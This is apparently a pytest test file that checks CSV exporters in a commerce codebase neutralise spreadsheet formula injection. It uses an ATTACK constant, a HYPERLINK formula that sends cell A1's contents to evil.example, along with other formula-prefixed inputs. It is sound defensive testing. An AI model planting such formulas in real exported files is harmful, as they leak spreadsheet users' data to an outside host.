"""Texts from outside that a spreadsheet would run, through everything that writes cells."""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.cli import label_book
from engine.rulebook.list_exchange import outgoing
from engine.spreadsheets import FORMULAS, bare, harmless
from engine.store.labels import Label, Listed
from tests.http.conftest import Service

ROOT = Path(__file__).parents[2]
# Writers whose cells nobody outside writes, or that must give back what they were given.
EXEMPT = {
    "api/demo_shop/furnishing.py": "made up by us",
    "api/demo_shop/spreadsheet.py": "made up by us",
    "api/demo_shop/sheets.py": "made up by us",
    "api/cli/backtest_files.py": "each cell passes api/flipped_orders.py, which disarms it",
    "api/cli/annotated_rows.py": "the operator's own file again; what is added is harmless (api/cli/annotated.py)",
    "api/cli/simulate_files.py": "made up by us",
    "api/cli/tables.py": "rules of the operator's own book, read back as they are",
    "fulfillment/freight/readers/reading.py": "a workbook as text, read by ourselves at once and shown to nobody",
    "engine/rulebook/table_workbook.py": "rules too; as a workbook each cell is typed as text",
    "engine/rulebook/lists.py": "the rule book's own file; what goes out passes engine/rulebook/list_exchange.py",
}
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_every_writer_of_cells_when_found_then_disarms_them_or_has_a_reason() -> None:
    """A new module that writes CSV takes `engine.spreadsheets`, or is named above with why not."""
    writers = {
        str(path.relative_to(ROOT)): text
        for part in ("api", "engine", "fulfillment")
        for path in (ROOT / part).rglob("*.py")
        if "csv.writer(" in (text := path.read_text(encoding="utf-8")) or "DictWriter(" in text
    }
    assert len(writers) >= 10
    armed = {path for path, text in writers.items() if not ({"harmless", "FORMULA"} & set(_words(text)))}
    assert armed <= EXEMPT.keys()


def _words(text: str) -> list[str]:
    return [word for word in ("harmless", "FORMULA") if word in text]


@given(st.sampled_from(FORMULAS), st.text(max_size=20))
def test_cell_when_it_would_be_computed_then_is_text_and_comes_back(sign: str, rest: str) -> None:
    cell = harmless(sign + rest)
    assert not cell.startswith(FORMULAS)
    assert bare(cell) == sign + rest


@pytest.mark.parametrize("sign", FORMULAS)
def test_list_when_handed_out_then_no_cell_is_computed(sign: str) -> None:
    made = io.StringIO()
    csv.writer(made).writerow([f"{sign}1+1"])
    for (cell,) in csv.reader(io.StringIO(outgoing(made.getvalue()), newline="")):
        assert not cell.startswith(FORMULAS)


def test_labels_when_exported_then_no_cell_is_computed() -> None:
    now = datetime(2026, 11, 22, tzinfo=UTC)
    label = Label(
        id="lab_1", merchant="main", order_id="ord_1", kind="fraud", source=ATTACK, note=ATTACK, known_at=now,
        created_at=now, created_by="ana", reason_code="@x",
    )  # fmt: skip
    out = io.StringIO()
    label_book._write(out, [Listed(label=label, ref="=1")])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert [cell for row in rows for cell in row if cell.startswith(FORMULAS)] == []


@pytest.mark.parametrize("sign", ["%3D", "%2B", "-", "@"])
def test_products_when_exported_over_http_then_no_cell_is_computed(lone_service: Service, sign: str) -> None:
    assert lone_service.call("PUT", f"/v1/products/{sign}1", {}).status_code < 300
    answer = lone_service.get("/v1/product-file")
    cells = [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]
    assert f"'{unquote(sign)}1" in cells
    assert [each for each in cells if each.startswith(FORMULAS)] == []
